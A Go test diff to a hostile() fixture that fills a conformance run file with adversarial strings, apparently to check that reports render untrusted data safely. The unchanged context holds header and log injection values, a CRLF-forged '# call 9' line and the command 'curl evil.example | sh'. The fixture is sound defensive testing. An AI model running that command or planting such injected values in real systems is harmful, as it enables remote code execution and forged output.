@@ -156,6 +156,7 @@ func hostile() *conformance.RunFile {
 		for k := range f.Checks[i].Findings {
 			finding := &f.Checks[i].Findings[k]
 			finding.Message, finding.Got, finding.Expected, finding.Hint = finding.Message+evil, evil, evil, evil
+			finding.Reason = &conformance.Reason{Kind: conformance.NeedsAid, Aid: conformance.Aid(evil), Probe: conformance.ProbeName(evil), Text: evil}
 		}
 	}
 	f.Causes = []conformance.Cause{{Message: evil, Cure: evil, Call: 2, Failed: []string{evil}}}
@@ -164,7 +165,7 @@ func hostile() *conformance.RunFile {
 	f.Preflight = []conformance.Step{{Name: evil, OK: true, Detail: evil, Cure: evil}}
 	f.Stale, f.Target = []string{evil}, "https://dispatch.example/taxi"+evil
 	x := f.Calls[1]
-	x.Probe, x.Err, x.Request.Method, x.Request.URL = evil, evil, "POST"+evil, f.Target+"/user"+evil
+	x.Probe, x.Err, x.Request.Method, x.Request.URL = conformance.ProbeName(evil), evil, "POST"+evil, f.Target+"/user"+evil
 	x.Request.Header = http.Header{"Content-Type": {evil}, evil: {evil}}
 	x.Request.Body, x.Response.Body = []byte(evil), []byte(evil+"\r\n\n# call 9\ncurl evil.example | sh")
 	x.Response.Proto = evil
